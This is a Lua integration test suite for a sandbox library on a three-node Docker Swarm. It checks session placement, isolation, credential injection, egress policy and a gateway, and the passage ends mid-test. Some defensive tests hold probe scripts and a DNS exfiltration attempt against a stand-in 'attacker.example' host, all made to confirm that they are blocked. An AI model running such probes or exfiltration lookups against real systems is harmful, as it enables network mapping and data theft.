-- sandstack.swarm on a real swarm (docs/scale-out.md): three nested Docker engines on
-- one machine, each in its own network namespace, joined into one swarm (one manager, two
-- workers; spec/support/swarm-cluster.sh). Sessions are started through the public API
-- (sandstack.swarm.start), in child processes, and found again from their records in this one.
-- It proves: placement by Swarm (each session on one node, sessions spread, a drained node
-- avoided), the same isolation on overlays (a sandbox reaches neither another session, on its
-- node or another, nor any node's address; each probe after a control that does connect), the
-- typed answers of a drained and of a lost node, and that reap leaves nothing on any node (the
-- lost one too, once it is back). The gateway runs on every node (backend "swarm") behind the
-- shipped swarm front, on the same cluster: its sessions are created, talked to, streamed and
-- deleted through the front, and go through the drain, loss and reap with the others.
-- Needs root (nsenter) and the host engine: #docker; lua5.4 mode only (one cluster per CI run).
if jit or os.getenv("SANDSTACK_TEST_MODE") == "asan" then return end
local sandstack = require "sandstack"
local core = sandstack.core
local swarm = sandstack.swarm
local h = require "helpers"
local W = require "swarm_harness"
local GW = require "swarm_gateway_harness"

local AGENT = "sandstack-test/agent:local"
local PORT = 9977 -- the listener every node gets on 0.0.0.0
local KEYP = "sw" .. core.random_hex(2):lower() .. "-"
local PROJECT_PREFIX = "sandstack-" .. KEYP

describe("sandstack.swarm on a three-node swarm #docker", function()
  local cluster, mgr
  local full, light -- a sandbox with an egress sidecar it depends on (ready test); a sandbox alone
  local sessions = {} -- key -> { record =, node = index, seconds = }
  local numbers = {}

  local function diag(line)
    numbers[#numbers + 1] = line
    io.stderr:write("# swarm: " .. line .. "\n")
  end

  local index_of = {}
  local function node_index(hostname) return index_of[hostname] end

  local function on_nodes(project)
    local where = {}
    for i = 1, 3 do
      if not cluster.nodes[i].stopped and W.node_projects(i).any[project] then where[#where + 1] = i end
    end
    return where
  end

  -- starts { {key, opts} } in `workers` child processes; records what each says
  local function start(jobs, workers)
    local t0 = core.engine_clock()
    local res = W.start_many(jobs, workers or 1)
    local wall = core.engine_clock() - t0
    local total, max = 0, 0
    for _, j in ipairs(jobs) do
      local r = res[j.key]
      assert.truthy(r, "no answer for " .. j.key)
      assert.truthy(r.ok, j.key .. ": " .. core.json_encode(r.err or {}))
      sessions[j.key] = { record = r.record, node = node_index(r.record.node), seconds = r.seconds, full = j.opts == full }
      total, max = total + r.seconds, math.max(max, r.seconds)
    end
    return total / #jobs, max, wall
  end

  local function jobs(keys, o)
    local out = {}
    for i, k in ipairs(keys) do out[i] = { key = k, opts = o } end
    return out
  end

  local function set_availability(i, availability)
    local n = assert(mgr:call("GET", "/nodes/" .. cluster.nodes[i].name))
    n.Spec.Availability = availability
    assert(mgr:call("POST", "/nodes/" .. n.ID .. "/update", n.Spec, { query = { version = n.Version.Index } }))
  end

  -- one exec in a session's container, `agent connect` to each target: { [target] = true|false }
  local function reach(stack, service, targets)
    local script = {}
    for _, t in ipairs(targets) do
      script[#script + 1] = ("if agent connect %s %s 1500 >/dev/null 2>&1; then echo 'OPEN %s %s'; else echo 'SHUT %s %s'; fi")
        :format(t[1], t[2], t[1], t[2], t[1], t[2])
    end
    local res = assert(stack:exec(service, { "sh", "-c", table.concat(script, "\n") }, { timeout = 120 }))
    local out = {}
    for state, ip, port in res.stdout:gmatch("(%u+) (%S+) (%d+)") do out[ip .. ":" .. port] = state == "OPEN" end
    return out, res.stdout
  end

  local function task_ip(project, service)
    local tasks = assert(mgr:call("GET", "/tasks", nil, { query = { filters = { service = { project .. "-" .. service } } } }))
    for _, t in ipairs(tasks) do
      if t.DesiredState == "running" then
        for _, na in ipairs(t.NetworksAttachments or {}) do
          if na.Network.Spec.Name == project .. "-sbx" then return (na.Addresses[1]:match("^([%d.]+)")) end
        end
      end
    end
  end

  setup(function()
    if select(2, h.sh("test $(id -u) = 0")) ~= true then
      error("the swarm spec needs root (nsenter into the nested engines)", 0)
    end
    cluster = W.up()
    diag(("cluster of 3 nested engines (1 manager, 2 workers) up in %.1f s"):format(cluster.up_seconds))
    mgr = assert(sandstack.engine { host = cluster.manager })
    for i, n in ipairs(cluster.nodes) do
      index_of[n.name] = i
      W.listen(i, PORT)
    end
    light = {
      docker_host = cluster.manager, agent_port = 8080, cpus = 0.1, memory = "64m", ready_timeout = 90,
      services = { { name = "sandbox", image = AGENT, command = { "agent" } } },
    }
    full = {
      docker_host = cluster.manager, agent_port = 8080, cpus = 0.1, memory = "64m", ready_timeout = 90,
      services = {
        { name = "sandbox", image = AGENT, command = { "agent" }, depends_on = { "out" } },
        { name = "out", image = AGENT, command = { "agent" }, env = { AGENT_PORT = "8080" }, egress = "allow" },
      },
      ready = { out = { test = { "agent", "connect", "127.0.0.1", "8080", "500" }, interval = 1 } },
    }
  end)

  local t_it
  before_each(function() t_it = core.engine_clock() end)
  after_each(function() io.stderr:write(("# swarm: (that test took %.1f s)\n"):format(core.engine_clock() - t_it)) end)

  teardown(function()
    GW.stop()
    if mgr then mgr:close() end
    W.cleanup()
    io.stderr:write("# swarm: " .. table.concat(numbers, "\n# swarm: ") .. "\n")
  end)

  it("is a swarm of one manager and two workers, each node's own engine named by its label", function()
    local nodes = assert(mgr:call("GET", "/nodes"))
    assert.equal(3, #nodes)
    local managers = 0
    for _, n in ipairs(nodes) do
      assert.equal("ready", n.Status.State)
      assert.equal("active", n.Spec.Availability)
      if n.Spec.Role == "manager" then managers = managers + 1 end
      local host = n.Spec.Labels["io.sandstack.engine"]
      local i = node_index(n.Description.Hostname)
      assert.equal(cluster.nodes[i].host, host)
      local e = assert(sandstack.engine { host = host })
      assert.is_true(e:ping())
      e:close()
    end
    assert.equal(1, managers)
  end)

  it("starts 9 sessions through the public API: each on one node, spread by Swarm", function()
    -- three with a sidecar (two services and a ready test), six with a sandbox alone; every
    -- session has its forwarder on its node besides
    local list = {}
    for i = 1, 9 do list[i] = { key = KEYP .. i, opts = i <= 3 and full or light } end
    local mean, max, wall = start(list, 3)
    local per, want = { 0, 0, 0 }, { 0, 0, 0 }
    for _, j in ipairs(list) do
      local s = sessions[j.key]
      assert.truthy(s.node, j.key .. " names no node of the cluster: " .. tostring(s.record.node))
      -- every object of the session (its task containers, the forwarder, its network) is on
      -- the node the stack names, and on no other
      assert.same({ s.node }, on_nodes(s.record.project))
      per[s.node] = per[s.node] + 1
      want[s.node] = want[s.node] + (s.full and 3 or 2)
    end
    for i = 1, 3 do
      local c = 0
      for p, n in pairs(W.node_projects(i).containers) do
        if p:sub(1, #PROJECT_PREFIX) == PROJECT_PREFIX then c = c + n end
      end
      assert.equal(want[i], c)
    end
    for i = 1, 3 do assert.truthy(per[i] >= 2, ("node %d holds %d of 9 sessions: %s"):format(i, per[i], table.concat(per, "/"))) end
    diag(("9 starts in 3 processes: %.1f s wall, per start mean %.1f s, max %.1f s; per node %s"):format(wall, mean, max,
      table.concat(per, "/")))
  end)

  it("refuses a session no node has room for, with Swarm's reason, and leaves nothing of it", function()
    -- each node has 2 CPUs; this session reserves 2 x 1.5 (sandbox and forwarder)
    local big = {}
    for k, v in pairs(light) do big[k] = v end
    big.cpus, big.placement_timeout = 1.5, 5
    local key = KEYP .. "big"
    local stack, err = swarm.start(key, big)
    assert.is_nil(stack)
    assert.equal("engine", err.kind)
    assert.equal("no_suitable_node", err.reason, tostring(err))
    assert.matches("insufficient resources", tostring(err.detail), 1, true)
    local project = "sandstack-" .. key
    assert.same({}, on_nodes(project))
    local f = { query = { filters = { label = { "io.sandstack.project=" .. project } } } }
    assert.same({}, assert(mgr:call("GET", "/services", nil, f)))
  end)

  it("reconnects each session from its record in another process, and the agent answers on its node's loopback", function()
    for k, s in pairs(sessions) do
      local stack = assert(swarm.reconnect(s.record))
      assert.equal(s.record.node, stack.node)
      assert.equal(s.record.port, stack.port)
      local out = W.in_node(s.node, ("curl -s -m 10 http://127.0.0.1:%d/echo/%s"):format(stack.port, k))
      assert.truthy(out:find(k, 1, true), out)
      s.stack = stack
    end
    local listed = assert(swarm.list { docker_host = cluster.manager })
    local n = 0
    for _, e in ipairs(listed) do
      if e.project:sub(1, #PROJECT_PREFIX) == PROJECT_PREFIX then
        n = n + 1
        assert.equal("running", e.services.sandbox)
        assert.equal(sessions[e.session_key].record.node, e.node)
      end
    end
    assert.equal(9, n)
  end)

  it("spawns through the node's engine: a pipe with its stdin's end, and a terminal of a set size", function()
    local read_until = require("spawn_ngx").read_until
    local _, s = next(sessions)
    local p = assert(s.stack:spawn({ "cat" }))
    assert(p:write("line-1\n"))
    assert.equal("line-1\n", read_until(p, "\n", 30))
    assert(p:close_stdin())
    assert.equal(0, p:wait(30))
    p = assert(s.stack:spawn({ "sh" }, { tty = true, cols = 90, rows = 20 }))
    assert(p:write("stty size; exit 5\n"))
    assert.truthy(read_until(p, "20 90", 30):find("20 90", 1, true))
    assert.equal(5, p:wait(30))
    p:close()
  end)

  it("runs the session interface through the node's engine: exec with stdin and a kill, files, logs and stats", function()
    local _, s = next(sessions)
    local h = s.stack
    local r = assert(h:exec({ "cat" }, { stdin = "to-the-node" }))
    assert.same({ 0, "to-the-node" }, { r.code, r.stdout })
    local _, err = h:exec("echo started; exec sleep 303", { timeout = 1 })
    assert.same({ "timeout", true, "started\n" }, { err.kind, err.killed, err.stdout })
    local ps = assert(h:exec({ "ps" })).stdout
    assert.is_nil(ps:find("sleep 303", 1, true), ps)
    assert.is_true(h:write("/tmp/on-node.txt", "node data", { mode = tonumber("600", 8) }))
    assert.equal("node data", h:read("/tmp/on-node.txt"))
    local st = assert(h:stat("/tmp/on-node.txt"))
    assert.same({ "file", 9, tonumber("600", 8) }, { st.type, st.size, st.mode })
    local names = {}
    for _, e in ipairs(assert(h:list("/tmp"))) do names[e.name] = true end
    assert.is_true(names["on-node.txt"])
    assert(h:remove("/tmp/on-node.txt"))
    _, err = h:read("/tmp/on-node.txt")
    assert.is_table(err)
    local l = assert(h:logs { service = "sandbox" })
    assert.matches("agent listening", l.stdout .. l.stderr)
    local m = assert(h:stats()).sandbox
    assert.is_true(m.memUsed > 0 and m.pids >= 1)
  end)

  it("keeps a session over time: pause and resume twice with files kept, upload and download", function()
    local key, s = next(sessions)
    local st = s.stack
    local sbx = assert(st:container("sandbox"))
    local function answer(seconds)
      return (W.in_node(s.node, ("curl -s -m %d http://127.0.0.1:%d/echo/%s"):format(seconds, st.port, key)))
    end
    for cycle = 1, 2 do
      assert.is_true(st:write("/tmp/over-time-" .. cycle, "written before pause " .. cycle))
      local t0 = core.engine_clock()
      assert.is_true(assert(st:pause()))
      local paused = core.engine_clock() - t0
      assert.is_true(assert(st.node_eng:call("GET", "/containers/" .. sbx .. "/json")).State.Paused)
      -- the forwarder and an added proxy keep running, as on docker
      local px = st.plan.proxy
      for _, svc in ipairs { st.plan.forwarder, px and px.added and px.service or nil } do
        local id = assert(st:container(svc))
        assert.is_false(assert(st.node_eng:call("GET", "/containers/" .. id .. "/json")).State.Paused, svc .. " was frozen")
      end
      assert.is_nil(answer(1):find(key, 1, true), "a paused session answered")
      assert.is_true(assert(st:pause())) -- a paused session is left as it is
      t0 = core.engine_clock()
      assert.is_true(assert(st:resume()))
      local resumed = core.engine_clock() - t0
      assert.truthy(answer(10):find(key, 1, true), "no answer after resume " .. cycle)
      for c = 1, cycle do assert.equal("written before pause " .. c, st:read("/tmp/over-time-" .. c)) end
      diag(("pause %.0f ms, resume %.0f ms (cycle %d, on %s)"):format(paused * 1000, resumed * 1000, cycle, s.record.node))
    end
    local dir = W.workdir()
    local data = core.random_hex(32):rep(2048) -- 128 KiB
    h.write_file(dir .. "/upload.bin", data)
    assert(st:upload(dir .. "/upload.bin", "/tmp/uploaded.bin"))
    assert.equal(#data, assert(st:stat("/tmp/uploaded.bin")).size)
    assert(st:download("/tmp/uploaded.bin", dir .. "/downloaded.bin"))
    assert.equal(data, h.read_file(dir .. "/downloaded.bin"))
    assert(st:remove("/tmp/uploaded.bin"))
    -- a second start of the live key is refused before anything is made, as docker's is
    local again, cerr = swarm.start(key, s.full and full or light)
    assert.is_nil(again)
    assert.same({ "conflict", "stack_exists" }, { cerr.kind, cerr.reason }, tostring(cerr))
    assert.truthy(answer(10):find(key, 1, true), "the session no longer answers")
  end)

  it("keeps sessions apart: from a sandbox, another session (same node, other node) and every node address are unreachable", function()
    -- A (with its egress sidecar) and B share a node; C is elsewhere
    local a, b, c
    for _, ka in pairs(sessions) do
      for _, kb in pairs(sessions) do
        if ka ~= kb and ka.full and ka.node == kb.node and ka.stack and kb.stack then a, b = ka, kb end
      end
    end
    for _, kc in pairs(sessions) do if kc.stack and kc.node ~= a.node then c = kc end end
    assert.truthy(a and b and c)
    local b_ip, c_ip = task_ip(b.record.project, "sandbox"), task_ip(c.record.project, "sandbox")
    assert.truthy(b_ip and c_ip)
    -- controls: each target listens, seen from where it may be reached
    local node_ip = cluster.nodes[a.node].ip
    local ctl = reach(a.stack, "out", { { node_ip, PORT } })
    assert.is_true(ctl[node_ip .. ":" .. PORT], "control: the egress sidecar reaches its node's listener")
    assert.is_true(reach(a.stack, "sandbox", { { "out", 8080 } })["out:8080"], "control: the sandbox reaches its own sidecar")
    for _, x in ipairs { { b, b_ip }, { c, c_ip } } do
      -- from the session's own forwarder (socat is all it has), on that session's overlay
      local r = assert(x[1].stack:exec("forwarder", { "socat", "-u", "OPEN:/dev/null",
        ("TCP:%s:8080,connect-timeout=2"):format(x[2]) }, { timeout = 30 }))
      assert.equal(0, r.exit_code, "control: the sandbox at " .. x[2] .. " listens: " .. r.stderr)
    end
    -- the attack, from A's sandbox
    local targets = { { b_ip, 8080 }, { c_ip, 8080 }, { cluster.nodes[1].ip, 2377 } }
    for i = 1, 3 do
      for _, ip in ipairs(W.addresses(i)) do targets[#targets + 1] = { ip, PORT } end
    end
    local got, text = reach(a.stack, "sandbox", targets)
    local open = {}
    for _, t in ipairs(targets) do
      local k = t[1] .. ":" .. t[2]
      assert.is_not_nil(got[k], "no result for " .. k .. ":\n" .. text)
      if got[k] then open[#open + 1] = k end
    end
    assert.same({}, open)
    diag(("cross-session probe: %d targets from a sandbox on %s, none reachable (controls reached)"):format(#targets,
      a.record.node))
  end)

  it("closes DNS exfiltration: a sandbox's look-ups never reach its node's resolver, an egress sidecar's do", function()
    local a
    for _, x in pairs(sessions) do if x.full and x.stack then a = x end end
    -- the node's resolver is 127.0.0.1 in its namespace (nested-engine.sh): a logging one there
    local dir = W.workdir()
    local log = dir .. "/queries-" .. a.node
    W.in_node(a.node, ("python3 %s 127.0.0.1 53 %s > %s 2>&1 < /dev/null & echo $! > %s"):format(
      h.q(W.root .. "/spec/support/dns_logger.py"), h.q(log), h.q(log .. ".out"), h.q(log .. ".pid")))
    local pid = tonumber((h.read_file(log .. ".pid") or ""):match("%d+"))
    W.track(pid)
    local up = false
    for _ = 1, 50 do
      if (h.read_file(log .. ".out") or ""):find("listening", 1, true) then up = true break end
      core.sleep(0.1)
    end
    assert.is_true(up, "the logging resolver did not start: " .. (h.read_file(log .. ".out") or ""))
    local nonce = core.random_hex(4)
    -- the attack first, then the control: the resolver logs in arrival order
    assert(a.stack:exec("sandbox", { "nslookup", "sbx-" .. nonce .. ".attacker.example" }, { timeout = 30 }))
    local own = assert(a.stack:exec("sandbox", { "nslookup", "out" }, { timeout = 30 }))
    assert(a.stack:exec("out", { "nslookup", "control-" .. nonce .. ".attacker.example" }, { timeout = 30 }))
    local seen = false
    for _ = 1, 100 do
      if (h.read_file(log) or ""):find("control-" .. nonce, 1, true) then seen = true break end
      core.sleep(0.1)
    end
    local text = h.read_file(log) or ""
    h.signal(pid, "TERM")
    assert.is_true(seen, "control: the egress sidecar's look-up never reached the node's resolver: " .. text)
    assert.equal(0, own.exit_code, own.stdout .. own.stderr) -- the session's own names resolve
    assert.is_nil(text:find("sbx-" .. nonce, 1, true), "the sandbox's look-up left the session:\n" .. text)
  end)

  it("runs sandstack conform --backend swarm on every node: the stand-in and the credentials in each node's namespace, nothing skipped", function()
    local lines = {}
    local out = { write = function(_, ...) for _, x in ipairs { ... } do lines[#lines + 1] = tostring(x) end end }
    local t0 = core.engine_clock()
    local ok, results = require("sandstack.conformance").run { backend = "swarm", docker_host = cluster.manager, out = out,
      project_prefix = "sandstack-" .. KEYP .. "conform-" }
    local text = table.concat(lines)
    assert.is_true(ok, text)
    assert.is_nil(text:find("not ok", 1, true), text)
    local skipped = {}
    for _, r in ipairs(results) do if r.skip then skipped[#skipped + 1] = r.name end end
    assert.same({}, skipped, text)
    for _, n in ipairs(cluster.nodes) do
      local node, probes = n.name, 0
      assert.truthy(text:find("# node " .. node .. " ", 1, true), text)
      for _, r in ipairs(results) do if r.name:sub(1, #node + 2) == node .. ": " then probes = probes + 1 end end
      assert.truthy(probes >= 17, text)
      -- each outside probe ran on this node, after its control
      for _, name in ipairs { "control: the egress = allow sidecar reaches the internet stand-in",
        "sandbox: the internet stand-in is unreachable", "egress = none sidecar: the internet stand-in is unreachable",
        "forwarder: the internet stand-in is unreachable",
        "credentials: the sandbox's request reaches the stand-in on its node with the secret in place of the placeholder",
        "credentials: the sandbox never holds the secret (environment, service spec, record, answer)" } do
        assert.truthy(text:find("\nok %d+ %- " .. (node .. ": " .. name):gsub("%p", "%%%0") .. "\n"), node .. ": " .. name .. "\n" .. text)
      end
      diag(("conform --backend swarm on %s: %d probes passed, none skipped (%s)"):format(node, probes,
        tostring(text:match("# node " .. node:gsub("%p", "%%%0") .. ": (the stack up in [^\n]*)"))))
      -- the stand-in left nothing in the node's namespace
      assert.is_nil(W.in_node(n.index, "ip -4 -o addr show"):find("198.51.100.", 1, true), node)
    end
    diag(("conform --backend swarm over 3 nodes: %.1f s"):format(core.engine_clock() - t0))
  end)

  -- Credentials and the live egress calls on a worker node: the proxy sandstack adds holds the
  -- secrets and puts them into the sandbox's requests; the calls reach it through the node's
  -- engine. The outside is a TLS stand-in in the worker's own network namespace (gh.test and
  -- model.test, a test CA the proxy trusts), which records what really arrived.
  describe("credentials on a worker node", function()
    local CLIENT = "sandstack-test/client:local" -- curl, trusting the stack's inspection CA
    local GH = "ghp_" .. core.random_hex(18)
    local GH2 = "ghp_" .. core.random_hex(18) -- the same length: replaced live
    local KEY, KEY2 = "sk-sw-" .. core.random_hex(16), "sk-sw2-" .. core.random_hex(16)
    local OUTSIDE = "203.0.113.77" -- in the worker's own network namespace only
    local node, work, stack, opts

    local function arrived(path)
      for line in (h.read_file(work .. "/requests.jsonl") or ""):gmatch("[^\n]+") do
        local r = assert(core.json_decode(line))
        if r.path == path then return r end
      end
    end
    local function curl(args)
      local r = assert(stack:exec("curl -sS -m 20 -o /tmp/body -w '%{http_code}' " .. args
        .. " 2>/tmp/curl.err; echo; cat /tmp/body /tmp/curl.err", { timeout = 60 }))
      local code, body = r.stdout:match("^(%d+)\n(.*)$")
      return tonumber(code), body or r.stdout
    end

    it("starts a session with credentials on a worker, the stand-in in that node's namespace", function()
      node = 2
      local n = cluster.nodes[node]
      work = W.workdir() .. "/creds"
      h.must("mkdir -p " .. h.q(work))
      require("proxy_harness").make_certs(work, "sstest-sw-ca", "gh.test", { "gh.test", "model.test" })
      -- an address the proxy takes for the outside (a private one it refuses), on the node's loopback
      W.in_node(node, "ip addr add " .. OUTSIDE .. "/32 dev lo")
      local pid = tonumber(W.in_node(node, ("python3 %s %s %s %s </dev/null >%s 2>&1 & echo $!"):format(
        h.q(W.root .. "/spec/support/tls_echo.py"), h.q(work .. "/srv.pem"), h.q(work .. "/srv.key"), h.q(work),
        h.q(work .. "/echo.log"))):match("%d+"))
      W.track(pid)
      h.must(("docker save %s | DOCKER_HOST=%s docker load -q"):format(CLIENT, h.q(n.host)))
      for _ = 1, 100 do
        if h.read_file(work .. "/echo.ready") then break end
        core.sleep(0.05)
      end
      assert.truthy(h.read_file(work .. "/echo.ready"), h.read_file(work .. "/echo.log"))
      opts = {
        docker_host = cluster.manager, agent_port = 8080, cpus = 0.1, memory = "64m", ready_timeout = 90,
        constraints = { "node.hostname==" .. n.name },
        services = { { name = "sandbox", image = CLIENT, command = "exec agent" } },
        api_key = KEY, egress_policy = { allow = { "gh.test", "model.test" } },
        proxy_hosts = { ["gh.test"] = OUTSIDE, ["model.test"] = OUTSIDE }, proxy_upstream = "https://model.test",
        proxy_upstream_ca = h.read_file(work .. "/ca.pem"),
        credentials = { { name = "GH_TOKEN", host = "gh.test", header = "Authorization", format = "Bearer %s",
          secret = GH } },
      }
      local err
      stack, err = swarm.start(KEYP .. "cred", opts)
      assert(stack, tostring(err))
      assert.equal(n.name, stack.node)
      -- the sandbox resolves its proxy as soon as start() returns: Swarm gives the proxy's name
      -- only once it saw the proxy healthy, and the start waits for that (swarm/names.lua)
      local r = stack:exec("nslookup proxy >/dev/null 2>&1", { timeout = 15 })
      assert.equal(0, r and r.exit_code, "the sandbox does not resolve its proxy right after the start")
    end)

    it("puts the credential into the sandbox's request on the node, and the sandbox never holds the secret", function()
      assert(stack, "no session")
      local ph = stack:credentials().GH_TOKEN
      assert.equal(#GH, #ph)
      local env = assert(stack:exec("env; tr '\\0' '\\n' < /proc/1/environ")).stdout
      assert.truthy(env:find("GH_TOKEN=" .. ph .. "\n", 1, true), env) -- the control: the placeholder is there
      local code, body = curl("-H 'Authorization: Bearer '\"$GH_TOKEN\" https://gh.test/user")
      assert.equal(200, code, body)
      local got = assert(arrived("/user"), "nothing reached gh.test")
      assert.equal("gh.test", got.sni)
      assert.same({ "Bearer " .. GH }, got.headers.authorization)
      assert.is_nil(body:find(GH, 1, true), "the secret came back into the sandbox")
      assert.truthy(body:find(ph, 1, true), body)
      code, body = curl("-H \"x-api-key: $ANTHROPIC_API_KEY\" -d '{}' \"$ANTHROPIC_BASE_URL/v1/messages\"")
      assert.equal(200, code, body)
      assert.same({ KEY }, assert(arrived("/v1/messages"), "nothing reached model.test").headers["x-api-key"])
      -- no secret in the sandbox: its environment, its service's spec on the manager, the record
      local spec = core.json_encode(assert(mgr:call("GET", "/services/" .. stack.project .. "-sandbox")))
      local rec = core.json_encode(stack:record())
      for _, s in ipairs { GH, KEY } do
        assert.is_nil(env:find(s, 1, true), "a secret is in the sandbox's environment")
        assert.is_nil(spec:find(s, 1, true), "a secret is in the sandbox service's spec")
        assert.is_nil(rec:find(s, 1, true), "a secret is in the record")
      end
      local again = assert(swarm.reconnect(stack:record()))
      assert.same(stack:credentials(), again:credentials())
      again:close()
    end)

    it("changes the credentials, the model key and the egress live, through the node's engine", function()
      assert(stack, "no session")
      assert(stack:set_credentials { { name = "GH_TOKEN", host = "gh.test", header = "Authorization",
        format = "Bearer %s", secret = GH2 } })
      local code, body = curl("-H 'Authorization: Bearer '\"$GH_TOKEN\" https://gh.test/user2")
      assert.equal(200, code, body)
      assert.same({ "Bearer " .. GH2 }, assert(arrived("/user2")).headers.authorization)
      assert(stack:set_model_key(KEY2))
      code, body = curl("-H \"x-api-key: $ANTHROPIC_API_KEY\" -d '{}' \"$ANTHROPIC_BASE_URL/v1/messages?k=2\"")
      assert.equal(200, code, body)
      assert.same({ KEY2 }, assert(arrived("/v1/messages?k=2")).headers["x-api-key"])
      -- a secret of another length is refused, and the one in force stays
      local ok, err = stack:set_credentials { { name = "GH_TOKEN", host = "gh.test", header = "Authorization",
        format = "Bearer %s", secret = GH2 .. "x" } }
      assert.is_nil(ok)
      assert.equal("credentials[1].secret", err.option, tostring(err))
      -- the egress: a policy that closes gh.test while GH_TOKEN is sent there is refused, as a
      -- start refuses it; without the credential gh.test closes, then opens again
      local refused, rerr = stack:set_egress { allow = { "model.test" } }
      assert.is_nil(refused)
      assert.same({ "invalid", "GH_TOKEN" }, { rerr.kind, rerr.credential }, tostring(rerr))
      assert(stack:set_credentials {})
      assert(stack:set_egress { allow = { "model.test" } })
      local p, digest = assert(stack:egress())
      assert.is_string(digest)
      assert.is_nil(p:render():find("gh.test", 1, true))
      code = curl("https://gh.test/closed")
      assert.is_true(code == nil or code < 200 or code >= 300, "answered " .. tostring(code))
      assert.is_nil(arrived("/closed"), "a closed host was reached")
      assert(stack:set_egress { allow = { "gh.test", "model.test" } })
      assert.equal(200, (curl("https://gh.test/open")))
      assert.truthy(arrived("/open"))
    end)

    -- The ask hook through the node's engine: a request no rule admits waits in the proxy until
    -- the host answers; an allow lets it through, a deny reaches the sandbox with its reason.
    it("holds a request no rule admits until the host answers it (the ask hook, through the node's engine)", function()
      assert(stack, "no session")
      local function held(name, url) -- a request from the sandbox, left running; its output in a file
        assert(stack:exec(("setsid sh -c 'curl -sS -i -m 30 %s >/tmp/%s 2>&1' </dev/null >/dev/null 2>&1 &")
          :format(url, name), { timeout = 30 }))
        return function() return assert(stack:exec("cat /tmp/" .. name .. " 2>/dev/null", { timeout = 30 })).stdout end
      end
      local function ask_for(host)
        for _ = 1, 200 do
          for _, a in ipairs(assert(stack:egress_asks())) do if a.host == host then return a end end
          core.sleep(0.05)
        end
        error("no ask for " .. host)
      end
      local function until_has(out, text)
        for _ = 1, 200 do
          local t = out()
          if t:find(text, 1, true) then return t end
          core.sleep(0.05)
        end
        return out()
      end
      assert(stack:set_egress { allow = { "model.test" }, ask = true, ask_timeout = 25 })
      local out = held("asked", "https://gh.test/asked")
      local a = ask_for("gh.test")
      assert.same({ "gh.test", 443, "CONNECT" }, { a.host, a.port, a.method })
      assert.equal("", out()) -- still waiting for the answer
      -- "session": gh.test is inspected (it has a credential), so its requests are judged by
      -- the policy inside the tunnel too; the remembered answer adds the host to it
      assert(stack:answer(a.id, "allow", { remember = "session", by = "spec" }))
      -- the tunnel's "200 Connection established", then the stand-in's own answer
      for _ = 1, 200 do
        if arrived("/asked") then break end
        core.sleep(0.05)
      end
      assert.truthy(arrived("/asked"), "the allowed request did not reach the stand-in: " .. out())
      assert.is_true((stack:egress():admits("gh.test", nil, nil, 443)))
      assert(stack:set_egress { allow = { "model.test" }, ask = true, ask_timeout = 25 })
      local denied = held("denied", "http://gh.test/denied")
      a = ask_for("gh.test")
      assert(stack:answer(a.id, "deny", { reason = "not on this node" }))
      local text = until_has(denied, "not on this node")
      assert.matches("ask_denied", text, 1, true)
      assert.matches("not on this node", text, 1, true)
      assert.is_nil(arrived("/denied"), "a denied request was sent")
      assert.same({}, assert(stack:egress_asks()))
      assert(stack:set_egress { allow = { "gh.test", "model.test" } })
    end)

    it("destroys the session, leaving nothing on its node", function()
      assert(stack, "no session")
      local project = stack.project
      assert(stack:destroy())
      stack:close()
      stack = nil
      assert.same({}, on_nodes(project))
    end)

    teardown(function()
      if stack then stack:destroy(); stack:close() end
    end)
  end)

  -- The gateway on every node (backend "swarm"), behind the shipped swarm front. Its sessions
  -- join `sessions` (with the record the gateway labelled them with), so the drain, lost-node
  -- and reap tests below hold them to the same answers as the others.
  local gw
  local TOKEN, TOKEN_BOB = core.random_hex(16), core.random_hex(16)
  local GW_PREFIX = PROJECT_PREFIX .. "gw-"
  local gws = {} -- key -> { secret =, node = index }
  local function front(method, path, o) return GW.curl(gw.front.url .. path, method, o) end
  local function gw_record(key)
    local list = assert(mgr:call("GET", "/services", nil,
      { query = { filters = { label = { "io.sandstack.gateway.session=" .. key } } } }))
    for _, x in ipairs(list) do
      local l = x.Spec.Labels
      if l["io.sandstack.project"]:sub(1, #GW_PREFIX) == GW_PREFIX and l["io.sandstack.gateway.record"] then
        return core.json_decode(l["io.sandstack.gateway.record"])
      end
    end
  end
  local function gw_create(key)
    local st, doc, body, secs = front("POST", "/sessions/" .. key, { token = TOKEN, timeout = 300 })
    assert.equal(201, st, body)
    local rec = assert(gw_record(key), "the manager has no gateway labels for " .. key)
    assert.equal(rec.node, doc.node)
    assert.is_nil(body:find(rec.project, 1, true)) -- the client never sees the operator's record
    gws[key] = { secret = doc.secret, node = node_index(doc.node), seconds = secs }
    sessions[key] = { record = rec, node = node_index(rec.node), gw = true }
    return gws[key]
  end
  local function talk(key, path, secret)
    return front("GET", "/sessions/" .. key .. path, { secret = secret or gws[key].secret, timeout = 60 })
  end

  it("runs the gateway on every node: through the swarm front, create, talk, stream and delete", function()
    gw = GW.start(W, mgr, { project_prefix = GW_PREFIX, tenants = {
      { name = "alice", token_sha256 = core.sha256_hex(TOKEN), max_sessions = 20 },
      { name = "bob", token_sha256 = core.sha256_hex(TOKEN_BOB), max_sessions = 1 } }, stack = {
      docker_host = cluster.manager, agent_port = 8080, cpus = 0.1, memory = "64m", ready_timeout = 90, timeout = 90,
      services = { { name = "sandbox", image = AGENT, command = { "agent" } } } } })
    -- Swarm places; the test creates until every node holds one (three, unless Swarm doubles up)
    local per, n, total = { 0, 0, 0 }, 0, 0
    while n < 6 and (n < 3 or per[1] == 0 or per[2] == 0 or per[3] == 0) do
      n = n + 1
      local g = gw_create(KEYP .. "g" .. n)
      per[g.node] = per[g.node] + 1
      total = total + g.seconds
    end
    for i = 1, 3 do assert.truthy(per[i] >= 1, "no gateway session on node " .. i .. ": " .. table.concat(per, "/")) end
    diag(("%d creates through front and gateways: mean %.1f s; per node %s"):format(n, total / n, table.concat(per, "/")))
    -- talk: three requests per session, so the round robin brings each to every gateway
    local t_talk, n_talk = { 0, 0 }, 0
    for key, g in pairs(gws) do
      for i = 1, 6 do -- the first three look the session up on the manager, the next three are cached
        local st, _, body, secs = talk(key, "/echo/hi")
        assert.equal(200, st, body)
        assert.truthy(body:find("GET /echo/hi", 1, true), body)
        assert.truthy(body:lower():find("x-sandstack-session: " .. key, 1, true), body)
        assert.is_nil(body:find(g.secret, 1, true)) -- the secret never reaches the agent
        assert.is_nil(body:lower():find("x-sandstack-forwarded", 1, true))
        local r = i <= 3 and 1 or 2
        t_talk[r] = t_talk[r] + secs
        if r == 1 then n_talk = n_talk + 1 end
      end
      assert.equal(404, (talk(key, "/echo/hi", core.random_hex(32))))
      for other, o in pairs(gws) do -- another session's secret opens nothing under this key
        if other ~= key then assert.equal(404, (talk(key, "/echo/hi", o.secret))) end
      end
